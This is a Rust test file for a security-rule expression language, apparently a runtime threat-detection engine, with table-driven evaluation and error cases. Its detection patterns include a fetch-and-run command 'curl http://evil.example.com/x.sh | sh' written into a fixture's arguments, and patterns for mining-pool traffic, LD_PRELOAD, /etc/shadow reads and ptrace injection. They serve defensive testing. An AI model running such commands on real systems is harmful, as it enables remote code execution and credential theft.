//! Table-driven evaluation cases: every operator, precedence, ancestors, registers, variables, macros,
//! constants, bitmasks, durations, CIDRs, globs and regexes, over fixture events.

mod common;

use std::sync::Arc;

use common::*;
use rampart_model::Event;
use rampart_secl::{
    compile, Cx, Env, Macro, MemoryStore, ScopeKey, VarDecl, VarScope, VarType, VarValue,
    VariableStore,
};

fn env() -> Env {
    let mut env = Env::default();
    let macros = [
        ("SHELLS", r#"["sh", "bash"]"#),
        ("is_shell", "exec.file.name in SHELLS"),
        ("is_root", "exec.uid == 0"),
        ("EXEC_BITS", "S_IXUSR|S_IXGRP|S_IXOTH"),
        ("SHELL_PATHS", r#"[~"/usr/bin/*sh"]"#),
        ("from_ssh", r#"process.ancestors.file.name == "sshd""#),
        ("UIDS", "[0, 1000]"),
        ("LOOP", "LOOP2"),
        ("LOOP2", "LOOP"),
    ];
    for (id, e) in macros {
        env.macros.insert(id.into(), Macro::parse(id, e).unwrap());
    }
    env.macros.insert(
        "BINS".into(),
        Macro::values("BINS", &["ls".into(), "cat".into()]),
    );
    let decl = |name: &str, scope, ty, list, default: Option<VarValue>| {
        Arc::new(VarDecl {
            name: name.into(),
            scope,
            ty,
            list,
            default,
            size: 10,
            private: false,
            inherited: false,
        })
    };
    env.vars.insert(
        "process.marked".into(),
        decl(
            "process.marked",
            VarScope::Process,
            VarType::Bool,
            false,
            None,
        ),
    );
    env.vars.insert(
        "cgroup.seen".into(),
        decl("cgroup.seen", VarScope::Cgroup, VarType::Str, true, None),
    );
    env.vars.insert(
        "counter".into(),
        decl(
            "counter",
            VarScope::Global,
            VarType::Int,
            false,
            Some(VarValue::Int(5)),
        ),
    );
    env.vars.insert(
        "container.cid".into(),
        decl(
            "container.cid",
            VarScope::Container,
            VarType::Str,
            false,
            None,
        ),
    );
    env
}

fn store(env: &Env) -> MemoryStore {
    let s = MemoryStore::new();
    let set = |name: &str, key: ScopeKey, v: VarValue, append: bool| {
        let op = rampart_secl::variables::SetOp {
            values: vec![v],
            append,
            ttl: None,
            size: 10,
        };
        s.set(&env.vars[name], key, op, T0);
    };
    set(
        "process.marked",
        ScopeKey::Process(4242),
        VarValue::Bool(true),
        false,
    );
    set(
        "cgroup.seen",
        ScopeKey::Cgroup(777),
        VarValue::Str("/usr/bin/bash".into()),
        true,
    );
    set(
        "cgroup.seen",
        ScopeKey::Cgroup(777),
        VarValue::Str("/usr/bin/zsh".into()),
        true,
    );
    set(
        "container.cid",
        ScopeKey::Container("abc123".into()),
        VarValue::Str("abc123".into()),
        false,
    );
    s
}

const EXEC: &[(&str, bool)] = &[
    // Strings, exact and lists.
    (r#"exec.file.path == "/usr/bin/bash""#, true),
    (r#"exec.file.path != "/usr/bin/bash""#, false),
    (r#"exec.file.name == "bash""#, true),
    (r#"exec.file.name in ["sh", "bash", "zsh"]"#, true),
    (r#"exec.file.name not in ["sh", "zsh"]"#, true),
    (r#"exec.file.name in ["sh", "zsh"]"#, false),
    (
        r#"exec.file.name in ["a", "b", "c", "d", "e", "f", "g", "bash"]"#,
        true,
    ),
    (
        r#"exec.file.name in ["a", "b", "c", "d", "e", "f", "g", "h"]"#,
        false,
    ),
    // Path globs: `*` within a segment, `**` across segments.
    (r#"exec.file.path =~ "/usr/bin/*""#, true),
    (r#"exec.file.path =~ "/usr/*""#, false),
    (r#"exec.file.path =~ "/usr/**""#, true),
    (r#"exec.file.path =~ ~"/usr/**/bash""#, true),
    (r#"exec.file.path == ~"/usr/*/bash""#, true),
    (r#"exec.file.path !~ "/usr/bin/*""#, false),
    (r#"exec.file.path in [~"/usr/sbin/*", ~"/bin/*"]"#, false),
    (
        r#"exec.file.path in [~"/usr/sbin/*", ~"/usr/bin/b*"]"#,
        true,
    ),
    (r#"exec.file.path in [~"/usr/bin/bash"]"#, true),
    // Regexes.
    (r#"exec.file.path in [r"^/usr/(s)?bin/ba.h$"]"#, true),
    (r#"exec.file.name =~ r"^ba""#, true),
    (r#"exec.file.name =~ r"^BA""#, false),
    (r#"exec.file.name =~ r"(?i)^BA""#, true),
    (r#"exec.file.name in ["zsh", ~"fish*", r"^b.sh$"]"#, true),
    (r#"exec.comm == "bash""#, true),
    // Plain-string globs cross `/`.
    (r#"exec.args =~ "*evil.example.com*""#, true),
    (r#"exec.args in [~"*stratum+tcp*", ~"*| sh*"]"#, true),
    (r#"exec.args == "-c""#, false),
    // Arrays: any element.
    (r#"exec.argv in ["--login"]"#, true),
    (r#""--login" in exec.argv"#, true),
    (r#""--nope" in exec.argv"#, false),
    (r#""--login" not in exec.argv"#, false),
    (r#"exec.argv == "-o""#, true),
    (r#"exec.argv not in ["--login"]"#, false),
    (
        r#"exec.argv allin ["-c", "--login", "-o", "out", "--rcfile=/tmp/rc", "curl http://evil.example.com/x.sh | sh"]"#,
        true,
    ),
    (r#"exec.argv allin ["-c", "--login"]"#, false),
    (r#"exec.argv allin [~"*"]"#, true),
    (r#"exec.args_flags == "login""#, true),
    (r#"exec.args_flags in ["c"]"#, true),
    (r#"exec.args_flags == "x""#, false),
    (r#"exec.args_options in ["o=out"]"#, true),
    (r#"exec.args_options in [~"rcfile=*"]"#, true),
    (r#"exec.args_options == "login=x""#, false),
    (r#"exec.envs in ["LD_PRELOAD"]"#, true),
    (r#"exec.envp in [~"LD_PRELOAD=*"]"#, true),
    (r#"exec.argv0 == "bash""#, true),
    (r#"exec.tty_name =~ "pts*""#, true),
    (r#"exec.user == "alice""#, true),
    (r#"exec.euser == "root""#, true),
    // Integers and comparisons.
    ("exec.pid == 4242", true),
    ("exec.pid != 4242", false),
    ("exec.uid == 1000 && exec.euid == 0", true),
    ("exec.uid > 999", true),
    ("exec.uid >= 1000", true),
    ("exec.uid < 1000", false),
    ("exec.uid <= 1000", true),
    ("exec.uid in [0, 1000]", true),
    ("exec.uid not in [0, 1000]", false),
    ("exec.ppid == 100", true),
    ("1000 == exec.uid", true),
    ("999 < exec.uid", true),
    ("1000 < exec.uid", false),
    ("exec.uid + 1 == 1001", true),
    ("exec.uid - 1000 == 0", true),
    ("exec.pid == 4240 + 2", true),
    ("-1 < exec.uid", true),
    ("exec.auid == AUDIT_AUID_UNSET", false),
    ("exec.cgroup.id == 777", true),
    // Bit operators and bitmasks.
    ("exec.file.mode & S_IXUSR > 0", true),
    ("exec.file.mode & S_ISUID > 0", false),
    (
        "exec.file.mode & (S_IXUSR | S_IXGRP | S_IXOTH) == 0111",
        true,
    ),
    ("exec.file.rights == 0755", true),
    ("exec.file.mode == 0100755", true),
    ("exec.file.mode & S_IFMT == S_IFREG", true),
    ("exec.cap_effective & CAP_SYS_ADMIN > 0", true),
    ("exec.cap_effective & CAP_SYS_PTRACE != 0", false),
    ("exec.cap_effective & CAP_SYS_PTRACE == 0", true),
    ("exec.cap_effective ^ exec.cap_effective == 0", true),
    ("exec.uid | 1 == 1001", true),
    ("exec.uid ^ 1000 == 0", true),
    ("exec.uid & 0x3e8 == 1000", true),
    // Booleans.
    ("exec.file.in_upper_layer", true),
    ("exec.file.in_upper_layer == true", true),
    ("exec.file.in_upper_layer != true", false),
    ("!exec.file.in_upper_layer", false),
    ("not exec.file.in_upper_layer", false),
    ("!!exec.file.in_upper_layer", true),
    ("exec.is_thread == false", true),
    (
        r#"exec.file.in_upper_layer && exec.file.name == "bash""#,
        true,
    ),
    // Durations: "time since".
    ("exec.file.change_time < 30s", true),
    ("exec.file.change_time < 1s", false),
    ("exec.file.change_time > 1s", true),
    ("exec.created_at < 1m", true),
    ("exec.created_at > 9s", true),
    ("exec.created_at < 10000ms", false),
    ("exec.created_at <= 10s", true),
    ("container.created_at > 90s", true),
    ("container.created_at < 1h", true),
    ("container.created_at > 1d", false),
    // Process context, parent, ancestors (any-match), registers, lengths.
    (r#"process.file.name == "bash""#, true),
    (r#"process.parent.file.name == "sshd""#, true),
    (r#"process.parent.comm == "bash""#, false),
    (r#"process.ancestors.file.name == "systemd""#, true),
    (r#"process.ancestors.file.name == "sshd""#, true),
    (r#"process.ancestors.file.name == "bash""#, false),
    (
        r#"process.ancestors.file.name in ["sshd", ~"*cron*"]"#,
        true,
    ),
    (r#"process.ancestors.file.name not in ["sshd"]"#, false),
    (r#"process.ancestors.file.name not in ["cron"]"#, true),
    (r#"process.ancestors.comm allin ["sshd", "systemd"]"#, true),
    (r#"process.ancestors.comm allin ["sshd"]"#, false),
    ("process.ancestors.length == 2", true),
    ("process.ancestors.length > 2", false),
    ("process.ancestors.pid == 1", true),
    (
        r#"process.ancestors.uid == 0 && process.ancestors.comm == "systemd""#,
        true,
    ),
    (
        r#"process.ancestors[A].comm == "sshd" && process.ancestors[A].pid == 1"#,
        false,
    ),
    (
        r#"process.ancestors.comm == "sshd" && process.ancestors.pid == 1"#,
        true,
    ),
    (
        r#"process.ancestors[A].comm == "sshd" && process.ancestors[A].pid == 100"#,
        true,
    ),
    (
        r#"process.ancestors[A].comm == "systemd" && process.ancestors[A].argv in ["-D"]"#,
        false,
    ),
    (
        r#"process.ancestors[A].comm == "sshd" && process.ancestors[A].argv in ["-D"]"#,
        true,
    ),
    // The register binds the smallest part that holds its uses: under `!` that is "no element".
    (
        r#"!(process.ancestors[A].comm == "sshd" && process.ancestors[A].pid == 100)"#,
        false,
    ),
    (
        r#"!(process.ancestors[A].comm == "sshd" && process.ancestors[A].pid == 1)"#,
        true,
    ),
    (
        r#"exec.file.name == "bash" && !(process.ancestors[A].comm == "systemd" && process.ancestors[A].argv in ["-D"])"#,
        true,
    ),
    (
        r#"exec.file.name == "bash" || process.ancestors[A].comm == "nope""#,
        true,
    ),
    (r#"process.ancestors.file.path =~ "/usr/sbin/*""#, true),
    ("process.parent.file.path.length == 14", true),
    ("exec.file.path.length == 13", true),
    ("exec.argv.length == 6", true),
    ("exec.file.name.length > 10", false),
    ("process.ancestors.file.name.length == 7", true),
    ("process.pid == 4242", true),
    (r#"process.container.id == "abc123""#, true),
    (r#"container.id == "abc123""#, true),
    (r#"container.tags in ["image_name:nginx"]"#, true),
    (r#"container.tags in [~"image_tag:1.*"]"#, true),
    (r#""image_tag:1.25" in container.tags"#, true),
    (r#"event.origin == "ebpf""#, true),
    (r#"event.hostname == "web-1""#, true),
    ("event.timestamp > 0", true),
    ("cgroup.id == 777", true),
    ("process.is_kworker", false),
    ("process.is_ia32", false),
    ("event.compat", false),
    // Boolean operators and precedence (`&&` binds tighter than `||`).
    ("true", true),
    ("false", false),
    ("true && false", false),
    ("true || false", true),
    ("!true", false),
    ("false && false || true", true),
    ("true || true && false", true),
    ("true && false || true && true", true),
    ("(true || false) && false", false),
    ("false && (false || true)", false),
    ("not (true and false)", true),
    ("!(exec.uid == 1000) || exec.pid == 1", false),
    ("exec.uid == 1000 and exec.gid == 1000", true),
    ("exec.uid == 1 or exec.gid == 1000", true),
    ("exec.uid == 1 || exec.gid == 1 || exec.pid == 4242", true),
    (
        "exec.uid == 1000 && (exec.gid == 1 || exec.pid == 4242) && exec.ppid == 100",
        true,
    ),
    // Constants and constant folding.
    ("1 == 1", true),
    ("1 != 1", false),
    (r#""a" == "a""#, true),
    (r#""abc" =~ "a*""#, true),
    ("2 in [1, 2, 3]", true),
    ("O_CREAT | O_TRUNC == 576", true),
    ("O_RDWR & O_ACCMODE == O_RDWR", true),
    ("10.0.0.1 in [10.0.0.0/8]", true),
    ("S_IXUSR|S_IXGRP|S_IXOTH == 73", true),
    ("^0 == -1", true),
    ("SIGKILL == 9 && SIGTERM == 15", true),
    (
        "PTRACE_ATTACH == 16 && PROT_EXEC == 4 && AF_INET6 == 10",
        true,
    ),
    // Macros.
    ("exec.file.name in SHELLS", true),
    ("exec.file.name in BINS", false),
    ("is_shell", true),
    ("is_shell && !is_root", true),
    ("exec.file.mode & EXEC_BITS > 0", true),
    ("exec.file.path in SHELL_PATHS", true),
    ("from_ssh", true),
    ("exec.uid in UIDS", true),
    ("(is_shell || is_root) && from_ssh", true),
    // Variables (`${…}`) with scopes and defaults.
    ("${process.marked} == true", true),
    ("${process.marked}", true),
    ("exec.file.path in ${cgroup.seen}", true),
    ("exec.file.path not in ${cgroup.seen}", false),
    (r#""other" in ${cgroup.seen}"#, false),
    (r#""/usr/bin/zsh" in ${cgroup.seen}"#, true),
    ("${counter} == 5", true),
    ("${counter} + 1 == 6", true),
    ("${counter} >= 3", true),
    (r#"${container.cid} == "abc123""#, true),
    ("process.container.id == ${container.cid}", true),
    (r#"exec.comm == "${container.cid}""#, false),
    (r#""/proc/${process.pid}/maps" == "/proc/4242/maps""#, true),
    (r#""${builtins.uuid4}" != """#, true),
    // Escapes.
    (r#""a*b" =~ ~"a\*b""#, true),
    (r#""aXb" =~ ~"a\*b""#, false),
    (r#"exec.args =~ ~"*\*literal*""#, false),
    (r#""quote\"d" == "quote\"d""#, true),
    (r#""back\\slash" =~ ~"back\\*""#, false),
    (r#""back\\slash" =~ ~"back\\\\*""#, true),
];

const OPEN: &[(&str, bool)] = &[
    (r#"open.file.path == "/etc/shadow""#, true),
    (r#"open.file.name == "shadow""#, true),
    ("open.flags & O_CREAT > 0", true),
    ("open.flags & O_TRUNC > 0", false),
    ("open.flags & (O_WRONLY|O_RDWR) > 0", true),
    ("open.flags & O_ACCMODE == O_WRONLY", true),
    ("open.flags == O_WRONLY|O_CREAT", true),
    ("open.flags & O_CREAT == 0", false),
    (r#"open.file.path in [~"/etc/*"]"#, true),
    (r#"open.file.path in [~"/etc/**"]"#, true),
    (r#"open.file.path in [~"/etc/*/shadow"]"#, false),
    (r#"open.file.path in [~"/etc/**/shadow"]"#, true),
    (r#"open.file.path =~ "/etc/sha*""#, true),
    (r#"open.file.path =~ "*shadow""#, false),
    (r#"open.file.path =~ "**/shadow""#, true),
    (r#"open.file.extension == """#, true),
    ("open.file.destination.mode == 0640", true),
    ("open.retval == 3", true),
    ("open.retval < 0", false),
    ("open.file.path.length == 11", true),
    (
        r#"open.file.path == "/etc/passwd" || open.file.name == "shadow""#,
        true,
    ),
    (r#"open.file.path in ["/tmp/**", "/*"]"#, false),
    (r#"open.file.path =~ ~"/ETC/*""#, false),
    (
        r#"process.file.name == "vim" && open.file.path == "/etc/shadow""#,
        true,
    ),
    (
        r#"open.file.path == "/etc/shadow" && process.parent.file.name == "bash""#,
        true,
    ),
    (r#"open.file.path == "/proc/${process.pid}/maps""#, false),
    (r#""/proc/${process.pid}/maps" == "/proc/300/maps""#, true),
    (
        r#"process.ancestors.file.name == "sshd" && open.flags & O_CREAT != 0"#,
        true,
    ),
];

const CONNECT: &[(&str, bool)] = &[
    ("connect.addr.ip == 10.1.2.3", true),
    ("connect.addr.ip in [10.0.0.0/8]", true),
    ("connect.addr.ip in [192.168.0.0/16, 172.16.0.0/12]", false),
    ("connect.addr.ip not in [192.168.0.0/16]", true),
    ("connect.addr.ip == 10.1.2.0/24", true),
    ("connect.addr.ip in [::1/128]", false),
    ("connect.addr.port == 443", true),
    ("connect.addr.port in [80, 443]", true),
    ("connect.addr.family == AF_INET", true),
    ("connect.addr.family == AF_INET6", false),
    ("connect.addr.is_public", false),
    ("connect.addr.is_public == false", true),
    (r#"connect.addr.hostname in ["evil.example.com"]"#, true),
    (r#"connect.addr.hostname =~ "*.EXAMPLE.com""#, true),
    ("connect.addr.hostname.length == 1", true),
    ("connect.protocol == IPPROTO_TCP", true),
];

const DNS: &[(&str, bool)] = &[
    (r#"dns.question.name == "mining.pool.example.org""#, true),
    (r#"dns.question.name in [~"*.pool.example.org"]"#, true),
    (r#"dns.question.name =~ "*.POOL.*""#, true),
    ("dns.question.type == TXT", true),
    ("dns.question.type in [A, AAAA]", false),
    ("dns.question.name.length > 10", true),
    (r#"dns.question.name in [r"^mining\."]"#, true),
    (r#"dns.question.name != "other.org""#, true),
    (
        r#"dns.question.name in ["a.org", "b.org", "c.org", "d.org", "e.org", "f.org", "MINING.pool.example.ORG"]"#,
        true,
    ),
];

/// (fixture, expression, expected).
type Case = (fn() -> Event, &'static str, bool);

const OTHER: &[Case] = &[
    (
        chmod_event,
        "chmod.file.destination.mode & S_ISUID > 0",
        true,
    ),
    (chmod_event, "chmod.file.destination.rights == 04755", true),
    (
        chmod_event,
        "chmod.file.destination.rights in [0707, 0717, 04755]",
        true,
    ),
    (chmod_event, r#"chmod.file.path == "/usr/bin/passwd""#, true),
    (bpf_event, "bpf.cmd == BPF_PROG_LOAD", true),
    (bpf_event, "BPF_PROBE_WRITE_USER in bpf.prog.helpers", true),
    (bpf_event, "BPF_OVERRIDE_RETURN in bpf.prog.helpers", false),
    (
        bpf_event,
        "bpf.prog.helpers in [BPF_SEND_SIGNAL, BPF_PROBE_WRITE_USER]",
        true,
    ),
    (bpf_event, "bpf.prog.helpers allin [1, 36]", true),
    (
        ptrace_event,
        "ptrace.request in [PTRACE_POKETEXT, PTRACE_POKEDATA]",
        true,
    ),
    (ptrace_event, r#"ptrace.tracee.comm == "nginx""#, true),
    (
        ptrace_event,
        r#"ptrace.tracee.parent.comm == "systemd""#,
        true,
    ),
    (
        ptrace_event,
        r#"ptrace.tracee.ancestors.comm == "systemd""#,
        true,
    ),
    (ptrace_event, "ptrace.request == PTRACE_ATTACH", false),
];

/// Expressions that must be rejected, with a fragment of the reason.
const ERRORS: &[(&str, &str)] = &[
    ("exec.file.path == 1", "cannot compare"),
    (r#"exec.uid == "x""#, "cannot compare"),
    ("unknown.field == 1", "unknown identifier"),
    ("exec.file.nope == 1", "unknown field"),
    (
        r#"open.file.path == "/x" && exec.file.name == "y""#,
        "mixes event types",
    ),
    ("exec.file.path", "not a boolean"),
    (r#"exec.uid =~ "x*""#, "cannot compare"),
    (r#"exec.file.path < "x""#, "cannot compare"),
    ("exec.created_at == 5s", "durations"),
    ("exec.uid < 5s", "durations"),
    (r#"exec.file.path == ["a"]"#, "array"),
    (r#"exec.file.name in [1, "a"]"#, "mixes"),
    ("${nope} == 1", "unknown variable"),
    (r#"exec.file.name =~ r"(""#, "invalid regex"),
    (
        r#"process.ancestors[A].comm == "a" && process.ancestors[B].comm == "b""#,
        "one register",
    ),
    (r#"exec.file[A].name == "x""#, "iterator"),
    ("LOOP", "refers to itself"),
    ("exec.file.path == ", "expected a value"),
    ("(exec.uid == 1", "`)`"),
    ("exec.uid == 1 == 1", "chain"),
    ("exec", "event type"),
    (r#"1 == "a""#, "cannot compare"),
    ("exec.file.in_upper_layer == 1", "cannot compare"),
    (r#"connect.addr.ip == "1.2.3.4""#, "cannot compare"),
    (r#"exec.file.name.length == "x""#, "cannot compare"),
    (r#"exec.uid & "x" > 0"#, "needs ints"),
    ("exec.uid in exec.pid", "needs an array"),
    (r#"exec.file.path == "x" &&"#, "expected a value"),
    (r#"exec.file.path == "unterminated"#, "unterminated"),
    ("exec.uid == 12q", "duration unit"),
];

fn run(
    ev: &Event,
    cases: &[(&str, bool)],
    env: &Env,
    vars: &dyn VariableStore,
    failures: &mut Vec<String>,
) -> usize {
    for (expr, want) in cases {
        match compile(expr, env) {
            Ok(c) => {
                let got = c.eval(&Cx::new(ev, vars));
                if got != *want {
                    failures.push(format!("{expr}: got {got}, want {want}"));
                }
            }
            Err(e) => failures.push(format!("{expr}: compile error {e}")),
        }
    }
    cases.len()
}

#[test]
fn evaluation_table() {
    let env = env();
    let vars = store(&env);
    let mut failures = Vec::new();
    let mut n = 0;
    n += run(&exec_event(), EXEC, &env, &vars, &mut failures);
    n += run(&open_event(), OPEN, &env, &vars, &mut failures);
    n += run(&connect_event(), CONNECT, &env, &vars, &mut failures);
    n += run(&dns_event(), DNS, &env, &vars, &mut failures);
    for (ev, expr, want) in OTHER {
        n += run(&ev(), &[(expr, *want)], &env, &vars, &mut failures);
    }
    assert!(
        failures.is_empty(),
        "{} of {n} cases failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
    assert!(n >= 200, "only {n} cases");
}

#[test]
fn error_table() {
    let env = env();
    let mut failures = Vec::new();
    for (expr, want) in ERRORS {
        match compile(expr, &env) {
            Ok(_) => failures.push(format!(
                "{expr}: compiled, expected an error containing {want:?}"
            )),
            Err(e) if !e.msg.contains(want) => {
                failures.push(format!("{expr}: error {:?} lacks {want:?}", e.msg))
            }
            Err(_) => {}
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn error_positions_point_at_the_culprit() {
    let env = env();
    let e = compile(r#"exec.file.name == "a" && exec.uid == "x""#, &env).unwrap_err();
    assert_eq!(e.pos, 25);
    let e = compile(r#"exec.file.name == "a" && nope.x == 1"#, &env).unwrap_err();
    assert_eq!(e.pos, 25);
    // Errors inside a macro are reported at the macro reference.
    let mut env2 = Env::default();
    env2.macros.insert(
        "BAD".into(),
        Macro::parse("BAD", "exec.uid == \"x\"").unwrap(),
    );
    let e = compile("exec.pid == 1 && BAD", &env2).unwrap_err();
    assert_eq!(e.pos, 17);
    assert!(e.msg.contains("in macro `BAD`"), "{}", e.msg);
}

#[test]
fn rule_event_type_is_derived() {
    let env = env();
    let c = compile(r#"open.file.path == "/x" && process.uid == 0"#, &env).unwrap();
    assert_eq!(
        c.event,
        Some(rampart_secl::RuleEvent::Linux(
            rampart_model::EventType::Open
        ))
    );
    let c = compile("process.uid == 0", &env).unwrap();
    assert_eq!(c.event, None);
    let c = compile(r#"set.registry.key_path == "HKEY_X""#, &env).unwrap();
    assert_eq!(c.event, Some(rampart_secl::RuleEvent::Windows("set")));
    let c = compile(
        r#"exec.cmdline =~ "*x*" && exec.file.name == "a.exe""#,
        &env,
    )
    .unwrap();
    assert_eq!(c.event, Some(rampart_secl::RuleEvent::Windows("exec")));
    assert!(c.fields.contains("exec.file.name"));
}

#[test]
fn regex_prefilters_and_literal_sets_keep_semantics() {
    let env = env();
    let ev = exec_event();
    let cases = [
        (r#"exec.comm in [r"^\[.*\]$"]"#, false),
        (r#"exec.comm =~ r"^ba(sh)?$""#, true),
        (r#"exec.comm =~ r"^bax?sh$""#, true),
        (r#"exec.comm =~ r"^b*ash$""#, true),
        (r#"exec.file.path =~ r"^/usr/bin/""#, true),
        (
            r#"exec.args in [~"*aa*", ~"*bb*", ~"*cc*", ~"*evil.example*"]"#,
            true,
        ),
        (
            r#"exec.args in [~"*aa*", ~"*bb*", ~"*cc*", ~"*dd*"]"#,
            false,
        ),
        (
            r#"exec.args in [~"*aa*", ~"*bb*", ~"*cc*", ~"*dd*", "x", ~"-c curl*"]"#,
            true,
        ),
        (
            r#"exec.args in [~"*a.a*", ~"*b+b*", ~"*c(c*", ~"*[dd*"]"#,
            false,
        ),
    ];
    for (expr, want) in cases {
        let c = compile(expr, &env).unwrap();
        assert_eq!(
            c.eval(&Cx::new(&ev, &rampart_secl::NoVariables)),
            want,
            "{expr}"
        );
    }
    let mut d = dns_event();
    if let rampart_model::EventData::Dns(x) = &mut d.data {
        x.question.name = "a.NICEHASH.com".into();
    }
    let c = compile(
        r#"dns.question.name in [~"*aa*", ~"*bb*", ~"*cc*", ~"*nicehash*"]"#,
        &env,
    )
    .unwrap();
    assert!(
        c.eval(&Cx::new(&d, &rampart_secl::NoVariables)),
        "case-insensitive literal set"
    );
}
